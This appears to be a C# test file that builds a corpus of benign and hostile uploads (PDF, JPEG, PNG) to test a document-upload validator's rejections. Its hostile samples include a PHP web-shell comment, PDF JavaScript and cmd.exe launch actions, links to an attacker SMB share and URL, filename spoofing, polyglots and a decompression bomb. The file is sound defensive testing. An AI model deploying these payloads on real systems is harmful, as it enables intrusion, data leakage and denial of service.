using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace Cej.Functions.Tests.Pieces;

/// <summary>A file with what is to become of it.</summary>
/// <param name="Cas">What it is.</param>
/// <param name="Nom">Its name.</param>
/// <param name="Type">The type that the client announces.</param>
/// <param name="Contenu">Its bytes.</param>
/// <param name="Statut">The answer's status.</param>
/// <param name="Code">The problem's code; null when it is accepted.</param>
internal sealed record FichierDuCorpus(string Cas, string Nom, string Type, byte[] Contenu, int Statut = 201, string? Code = null);

/// <summary>Good and hostile files, made anew by each run.</summary>
internal static class Corpus
{
    private const string Pdf = "application/pdf";
    private const string Jpeg = "image/jpeg";
    private const string Png = "image/png";

    private const string Discordant = "piece-type-discordant";
    private const string TypeRefuse = "piece-type-refuse";
    private const string Illisible = "piece-illisible";
    private const string Programme = "piece-avec-programme";
    private const string Action = "piece-avec-action";
    private const string AutreFichier = "piece-avec-autre-fichier";
    private const string Chiffree = "piece-chiffree";
    private const string TropGrande = "image-trop-grande";

    public static byte[] UnPdf { get; } = new PdfDeTest().Ecrire();

    public static IReadOnlyList<FichierDuCorpus> Tous { get; } =
    [.. BonsPdf(), .. BonnesImages(), .. TypesRefuses(), .. MauvaisesImages(), .. ImagesDoubles(), .. PdfQuiAgissent(), .. MauvaisPdf()];

    /// <summary>A good PDF of exactly so many bytes.</summary>
    public static byte[] PdfDe(int taille)
    {
        var vide = new PdfDeTest().AjouterFlux(4, "", []).Ecrire().Length;
        var rempli = new PdfDeTest().AjouterFlux(4, "", new byte[taille - vide - 10]).Ecrire();
        // The length of the length varies: line breaks at the end make up for it.
        return [.. rempli, .. Enumerable.Repeat((byte)'\n', taille - rempli.Length)];
    }

    private static IEnumerable<FichierDuCorpus> BonsPdf()
    {
        yield return Bon("PDF", UnPdf);
        yield return Bon("PDF with a link", PdfDeTest.Avec((4, "<< /S /URI /URI (https://france-travail.example) >>")).Ecrire());
        yield return Bon(
            "PDF whose text speaks of JavaScript",
            new PdfDeTest().AjouterFlux(4, "", PdfDeTest.Latin("BT (HTML/CSS/JavaScript /JS /Launch) Tj ET")).Ecrire()
        );
        yield return Bon(
            "PDF with object streams",
            new PdfDeTest().AjouterObjets(4, (5, "<< /Type /Font >>"), (6, "[1 2 3]")).Ecrire((5, 4, 0), (6, 4, 1))
        );
        yield return Bon("PDF without a table", new PdfDeTest { AvecTable = false }.Ecrire());
        yield return Bon("PDF protected for its owner", PdfDeTest.Chiffre());
        yield return Bon("PDF protected for its owner, RC4 of 128 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.Rc4De128));
        yield return Bon("PDF protected for its owner, AES of 128 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.AesDe128));
        yield return Bon("PDF protected for its owner, AES of 256 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.AesDe256));
        yield return Bon("PDF behind a line feed", [(byte)'\n', .. UnPdf]);
        yield return Bon("PDF behind the mark of UTF-8 and blanks", [0xEF, 0xBB, 0xBF, .. "\r\n \t"u8, .. UnPdf]);
        yield return Bon(
            "PDF with a plain form",
            new PdfDeTest { Catalogue = "/AcroForm << /Fields [4 0 R] /NeedAppearances true >>" }
                .Ajouter(
                    (
                        4,
                        "<< /FT /Tx /T (nom) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://x.example) >> >>"
                    )
                )
                .Ecrire()
        );
        foreach (
            var vue in new[]
            {
                "[3 0 R /Fit]",
                "<< /S /GoTo /D [3 0 R /XYZ 0 0 1] >>",
                "<< /S /Named /N /LastPage /Next << /S /GoTo /D [3 0 R /Fit] >> >>",
            }
        )
            yield return Bon($"PDF that opens at {vue}", new PdfDeTest { Catalogue = $"/OpenAction {vue}" }.Ecrire());
        yield return Bon("PDF with blanks behind its end", [.. UnPdf, .. new byte[500]]);
        yield return Bon("PDF of exactly 5 MiB", PdfDe(5 * 1024 * 1024));

        static FichierDuCorpus Bon(string cas, byte[] contenu) => new(cas, "CV.pdf", Pdf, contenu);
    }

    private static IEnumerable<FichierDuCorpus> BonnesImages()
    {
        var jpeg = ImageDeTest.Jpeg();
        yield return new("JPEG", "photo.jpg", Jpeg, jpeg);
        yield return new("JPEG, other extension", "PHOTO.JPEG", Jpeg, jpeg);
        yield return new("JPEG with a place", "photo.jpg", Jpeg, ImageDeTest.JpegAvec(ImageDeTest.Exif()));
        yield return new(
            "JPEG with XMP",
            "photo.jpg",
            Jpeg,
            ImageDeTest.JpegAvec(ImageDeTest.Xmp("<x:xmpmeta exif:GPSLatitude='48,51N'/>"))
        );
        yield return new("JPEG with a colour profile", "photo.jpg", Jpeg, ImageDeTest.JpegAvec(ImageDeTest.Segment(0xE2, Icc())));
        yield return new("JPEG and a phone's film behind it", "photo.jpg", Jpeg, [.. jpeg, 0, 0, 0, 24, .. "ftypmp42"u8, .. new byte[400]]);
        yield return new("JPEG without its end", "photo.jpg", Jpeg, jpeg[..^2]);
        yield return new("JPEG in grey without its end", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(1)[..^2]);
        yield return new("JPEG in CMYK", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(4));
        yield return new("JPEG in CMYK without its end", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(4)[..^2]);
        yield return new("JPEG, progressive", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(3, progressif: true));
        yield return new("JPEG of a phone, 12 megapixels and a preview of a megabyte", "photo.jpg", Jpeg, ImageDeTest.JpegDeTelephone());
        yield return new("JPEG padded with zeros", "photo.jpg", Jpeg, [.. jpeg, .. new byte[1_000]]);
        yield return new("PNG", "scan.png", Png, ImageDeTest.Png());
        yield return new("PNG with texts", "scan.png", Png, ImageDeTest.PngAvec(ImageDeTest.Bloc("tEXt", [.. "Author\0Inès"u8])));
        yield return new("PNG with EXIF", "scan.png", Png, ImageDeTest.PngAvec(ImageDeTest.Bloc("eXIf", ImageDeTest.Exif()[10..])));
        yield return new("PNG padded", "scan.png", Png, [.. ImageDeTest.Png(), .. new byte[100]]);
    }

    private static byte[] Icc() => [.. "ICC_PROFILE\0"u8, 1, 1, .. new byte[128]];

    private static IEnumerable<FichierDuCorpus> TypesRefuses()
    {
        yield return new("program", "CV.exe", "application/octet-stream", [.. "MZ"u8, .. new byte[100]], 415, TypeRefuse);
        yield return new("program named PDF", "CV.pdf", Pdf, [.. "MZ"u8, .. new byte[100]], 415, Discordant);
        yield return new("double extension", "CV.pdf.exe", Pdf, UnPdf, 415, TypeRefuse);
        yield return new("hidden extension", "CV\u202Efdp.exe", Pdf, UnPdf, 415, TypeRefuse);
        yield return new("no extension", "CV", Pdf, UnPdf, 415, TypeRefuse);
        yield return new("type not announced", "CV.pdf", "application/octet-stream", UnPdf, 415, TypeRefuse);
        yield return new("other type announced", "CV.pdf", Jpeg, UnPdf, 415, Discordant);
        yield return new("page named PDF", "CV.pdf", Pdf, [.. "<!DOCTYPE html><script>alert(1)</script>"u8], 415, Discordant);
        yield return new("PDF behind something else", "CV.pdf", Pdf, [.. "#!/bin/sh\n"u8, .. UnPdf], 415, Discordant);
        yield return new("PDF behind a page", "CV.pdf", Pdf, [.. "\n<html>\n"u8, .. UnPdf], 415, Discordant);
        yield return new("PDF behind an archive", "CV.pdf", Pdf, [.. Archive(), .. UnPdf], 415, Discordant);
        yield return new("PDF behind a kilobyte of blanks", "CV.pdf", Pdf, [.. new byte[1_024], .. UnPdf], 415, Discordant);
        yield return new("picture behind a PDF's name", "CV.pdf", Pdf, ImageDeTest.Jpeg(), 415, Discordant);
        yield return new("PNG named JPEG", "photo.jpg", Jpeg, ImageDeTest.Png(), 415, Discordant);
        yield return new("JPEG named PNG", "photo.png", Png, ImageDeTest.Jpeg(), 415, Discordant);
        yield return new("GIF named PNG", "photo.png", Png, [.. "GIF89a"u8, .. new byte[50]], 415, Discordant);
        yield return new("WebP named JPEG", "photo.jpg", Jpeg, ImageDeTest.Encoder(SKEncodedImageFormat.Webp), 415, Discordant);
        yield return new("WebP", "photo.webp", "image/webp", ImageDeTest.Encoder(SKEncodedImageFormat.Webp), 415, TypeRefuse);
        yield return new("SVG", "logo.svg", "image/svg+xml", [.. "<svg onload='alert(1)'/>"u8], 415, TypeRefuse);
        yield return new("SVG named PNG", "logo.png", Png, [.. "<svg onload='alert(1)'/>"u8], 415, Discordant);
        yield return new("archive", "CV.zip", "application/zip", Archive(), 415, TypeRefuse);
        yield return new("archive named PDF", "CV.pdf", Pdf, Archive(), 415, Discordant);
        yield return new("nothing", "CV.pdf", Pdf, [], 422, "piece-vide");
        yield return new("one byte", "CV.pdf", Pdf, [0x25], 415, Discordant);
    }

    private static IEnumerable<FichierDuCorpus> MauvaisesImages()
    {
        var (jpeg, png) = (ImageDeTest.Jpeg(), ImageDeTest.Png());
        yield return Refusee("JPEG cut off near its end", jpeg[..^40], Illisible);
        yield return Refusee("JPEG cut off", jpeg[..(jpeg.Length / 2)], Illisible);
        yield return Refusee("JPEG of its first bytes", jpeg[..20], Illisible);
        yield return Refusee("JPEG of noise", [0xFF, 0xD8, 0xFF, .. Enumerable.Repeat((byte)0x42, 500)], Illisible);
        yield return Refusee("JPEG with a segment longer than itself", [0xFF, 0xD8, 0xFF, 0xE0, 0xFF, 0xFF, .. new byte[50]], Illisible);
        yield return Refusee("JPEG with a segment of less than nothing", [0xFF, 0xD8, 0xFF, 0xE0, 0, 1, .. jpeg[2..]], Illisible);
        yield return Refusee("JPEG of no height", ImageDeTest.JpegDe(64, 0), Illisible);
        yield return Refusee("JPEG of absurd dimensions", ImageDeTest.JpegDe(65_535, 65_535), TropGrande);
        yield return Refusee("PNG cut off", png[..(png.Length / 2)], Illisible);
        yield return Refusee("PNG without pixels", [.. png[..33], .. ImageDeTest.Bloc("IEND", [])], Illisible);
        yield return new("PNG without a header", "scan.png", Png, [.. png[..8], .. png[33..]], 415, Discordant);
        yield return Refusee("PNG with a wrong checksum", [.. png[..29], 1, 2, 3, 4, .. png[33..]], Illisible);
        yield return Refusee("PNG with a block longer than itself", [.. png[..33], 0x7F, 0xFF, 0xFF, 0xFF, .. png[37..]], Illisible);
        yield return Refusee("PNG with a block nobody knows", ImageDeTest.PngAvec(ImageDeTest.Bloc("EVIL", [1])), Illisible);
        yield return Refusee("PNG of absurd dimensions", ImageDeTest.PngDe(100_000, 100_000), TropGrande);
        yield return Refusee("PNG of negative dimensions", ImageDeTest.PngDe(-1, 10), TropGrande);
        yield return Refusee("PNG of no width", ImageDeTest.PngDe(0, 10), Illisible);
    }

    private static IEnumerable<FichierDuCorpus> ImagesDoubles()
    {
        var (jpeg, png) = (ImageDeTest.Jpeg(), ImageDeTest.Png());
        yield return Refusee("JPEG and archive", [.. jpeg, .. Archive()], AutreFichier);
        yield return Refusee("JPEG and PDF", [.. jpeg, .. UnPdf], AutreFichier);
        yield return Refusee(
            "JPEG with a page in a comment",
            ImageDeTest.JpegAvec(ImageDeTest.Commentaire("<SCRIPT>alert(1)</SCRIPT>")),
            AutreFichier
        );
        yield return Refusee(
            "JPEG with PHP in a comment",
            ImageDeTest.JpegAvec(ImageDeTest.Commentaire("<?php system($_GET['c']);")),
            AutreFichier
        );
        yield return Refusee("JPEG with a page in XMP", ImageDeTest.JpegAvec(ImageDeTest.Xmp("<html><iframe src='//x'>")), AutreFichier);
        yield return Refusee(
            "JPEG with an archive in a profile",
            ImageDeTest.JpegAvec(ImageDeTest.Segment(0xE2, [.. Icc(), .. Archive()])),
            AutreFichier
        );
        yield return Refusee("PNG and page", [.. png, .. "<html><script>alert(1)</script>"u8], AutreFichier);
        yield return Refusee("PNG and archive", [.. png, .. Archive()], AutreFichier);
        yield return Refusee("PNG and program", [.. png, 0x7F, .. "ELF"u8, .. new byte[100]], AutreFichier);
        yield return Refusee(
            "PNG with a page in a text",
            ImageDeTest.PngAvec(ImageDeTest.Bloc("tEXt", [.. "C\0<script>"u8])),
            AutreFichier
        );
        yield return Refusee("PNG with a PDF in a text", ImageDeTest.PngAvec(ImageDeTest.Bloc("zTXt", UnPdf)), AutreFichier);
    }

    private static IEnumerable<FichierDuCorpus> PdfQuiAgissent()
    {
        const string script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
        yield return Refuse(
            "PDF that runs a script when opened",
            new PdfDeTest { Catalogue = $"/OpenAction {script}" }.Ecrire(),
            Programme
        );
        yield return Refuse(
            "PDF with a named script",
            new PdfDeTest { Catalogue = "/Names << /JavaScript 4 0 R >>" }
                .Ajouter((4, $"<< /Names [(a) {script}] >>"))
                .Ecrire(),
            Programme
        );
        yield return Refuse(
            "PDF with a script on a page",
            PdfDeTest.Avec((3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O {script} >> >>")).Ecrire(),
            Programme
        );
        yield return Refuse(
            "PDF with a disguised name",
            new PdfDeTest { Catalogue = "/OpenAction << /S /J#61vaS#63ript /J#53 (app.alert\\(1\\)) >>" }.Ecrire(),
            Programme
        );
        yield return Refuse(
            "PDF with a compressed script",
            new PdfDeTest { Catalogue = "/OpenAction 5 0 R" }
                .AjouterObjets(4, (5, script))
                .Ecrire((5, 4, 0)),
            Programme
        );
        yield return Refuse(
            "PDF with a script and no table",
            new PdfDeTest { Catalogue = "/OpenAction 4 0 R", AvecTable = false }
                .Ajouter((4, script))
                .Ecrire(),
            Programme
        );
        yield return Refuse("PDF with a script that nothing points to", PdfDeTest.Avec((4, script)).Ecrire(), Programme);
        yield return Refuse("PDF with a script added later", AvecAjout(script), Programme);
        yield return Refuse(
            "PDF that starts a program",
            new PdfDeTest { Catalogue = "/OpenAction << /S /Launch /F (cmd.exe) >>" }.Ecrire(),
            Programme
        );
        foreach (
            var action in new[]
            {
                @"<< /S /GoToR /F (\\\\attaquant\\partage\\x.pdf) /D [0 /Fit] >>",
                @"<< /S /Thread /F (\\\\attaquant\\partage\\x.pdf) /D 0 >>",
                "<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
                "<< /S /ImportData /F (x.fdf) >>",
                "<< /S /SubmitForm /F (https://attaquant.example) >>",
                "<< /S /URI /URI (https://attaquant.example) >>",
                "<< /S /Named /N /Print >>",
                "<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (x) >>] >>",
                "<< /S /Inconnue >>",
                "<< /D [3 0 R /Fit] >>",
            }
        )
        {
            yield return Refuse($"PDF that opens with {action}", new PdfDeTest { Catalogue = $"/OpenAction {action}" }.Ecrire(), Action);
            yield return Refuse(
                $"PDF whose page opens with {action}",
                PdfDeTest
                    .Avec((3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA 5 0 R >>"), (5, "<< /O 6 0 R >>"), (6, action))
                    .Ecrire(),
                Action
            );
        }

        yield return Refuse(
            "PDF that runs a film by itself",
            new PdfDeTest { Catalogue = "/X << /S /RichMediaExecute /CMD << >> >>" }.Ecrire(),
            Programme
        );
        yield return Refuse("PDF with a 3D annotation", PdfDeTest.Avec((4, "<< /Type /Annot /Subtype /3D >>")).Ecrire(), Programme);
        yield return Refuse("PDF with a film", PdfDeTest.Avec((4, "<< /Type /Annot /Subtype /RichMedia >>")).Ecrire(), Programme);
        yield return Refuse(
            "PDF with a living form",
            new PdfDeTest { Catalogue = "/AcroForm << /XFA 4 0 R >>" }
                .Ajouter((4, "[]"))
                .Ecrire(),
            Programme
        );
        yield return Refuse(
            "PDF with a file inside",
            new PdfDeTest { Catalogue = "/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>" }
                .Ajouter((4, "<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>"))
                .AjouterFlux(5, "/Type /EmbeddedFile", [.. "MZ"u8])
                .Ecrire(),
            AutreFichier
        );
    }

    /// <summary>What a reader sees is the last version of an object.</summary>
    private static byte[] AvecAjout(string script)
    {
        var place = UnPdf.Length;
        var ajout =
            $"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {script} >>\nendobj\n"
            + $"xref\n1 1\n{place:D10} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev {Encoding.Latin1.GetString(UnPdf).LastIndexOf("xref\n0 1", StringComparison.Ordinal)} >>\n";
        var table = place + ajout.IndexOf("xref\n", StringComparison.Ordinal);
        return [.. UnPdf, .. PdfDeTest.Latin($"{ajout}startxref\n{table}\n%%EOF\n")];
    }

    private static IEnumerable<FichierDuCorpus> MauvaisPdf()
    {
        yield return Refuse(
            "PDF with a password",
            new PdfDeTest
            {
                Trailer =
                    $"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{new string('A', 64)}> /U <{new string('B', 64)}> >> /ID [<00> <00>]",
            }.Ecrire(),
            Chiffree
        );
        yield return Refuse(
            "PDF protected in a way nobody knows",
            new PdfDeTest { Trailer = "/Encrypt << /Filter /Inconnu.Sec /V 9 >> /ID [<00> <00>]" }.Ecrire(),
            Chiffree
        );
        yield return Refuse("PDF and archive", [.. UnPdf, .. Archive()], AutreFichier);
        yield return Refuse("archive inside a PDF", new PdfDeTest().AjouterFlux(4, "", Archive()).Ecrire(), AutreFichier);
        yield return Refuse("PDF and page", [.. UnPdf, .. "<html><script>alert(1)</script></html>"u8], AutreFichier);
        yield return Refuse("PDF and page at its beginning", [.. "%PDF-1.7\n%<html><script>alert(1)</script>\n"u8, .. UnPdf], AutreFichier);
        yield return Refuse("PDF cut off", UnPdf[..(UnPdf.Length / 2)], Illisible);
        yield return Refuse("PDF of its first line", [.. "%PDF-1.7\n%%EOF"u8], Illisible);
        yield return Refuse(
            "PDF of noise",
            [.. "%PDF-1.7\n"u8, .. Enumerable.Range(0, 5_000).Select(i => (byte)(i * 31)), .. "%%EOF"u8],
            Illisible
        );
        yield return Refuse("PDF without pages", PdfDeTest.Avec((2, "<< /Type /Pages /Kids [] /Count 0 >>")).Ecrire(), Illisible);
        yield return Refuse(
            "PDF whose pages go round",
            PdfDeTest.Avec((2, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>")).Ecrire(),
            Illisible
        );
        yield return Refuse(
            "PDF as deep as a well",
            new PdfDeTest { Catalogue = $"/X {new string('[', 200_000)}{new string(']', 200_000)}" }.Ecrire(),
            Illisible
        );
        yield return Refuse(
            "PDF that swells to half a gigabyte",
            new PdfDeTest { Catalogue = "/X 5 0 R" }
                .AjouterFlux(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Bombe(512))
                .Ecrire((5, 4, 0)),
            Illisible
        );
    }

    private static byte[] Bombe(int megaoctets)
    {
        using var sortie = new MemoryStream();
        using (var zlib = new ZLibStream(sortie, CompressionLevel.SmallestSize))
        {
            zlib.Write("5 0 "u8);
            var bloc = Enumerable.Repeat((byte)' ', 1024 * 1024).ToArray();
            for (var i = 0; i < megaoctets; i++)
                zlib.Write(bloc);
        }

        return sortie.ToArray();
    }

    private static byte[] Archive()
    {
        using var sortie = new MemoryStream();
        using (var zip = new ZipArchive(sortie, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entree = zip.CreateEntry("evil.js").Open();
            entree.Write("alert(1)"u8);
        }

        return sortie.ToArray();
    }

    private static FichierDuCorpus Refuse(string cas, byte[] contenu, string code) => new(cas, "CV.pdf", Pdf, contenu, 422, code);

    private static FichierDuCorpus Refusee(string cas, byte[] contenu, string code) =>
        cas.StartsWith("JPEG", StringComparison.Ordinal)
            ? new(cas, "photo.jpg", Jpeg, contenu, 422, code)
            : new(cas, "scan.png", Png, contenu, 422, code);
}
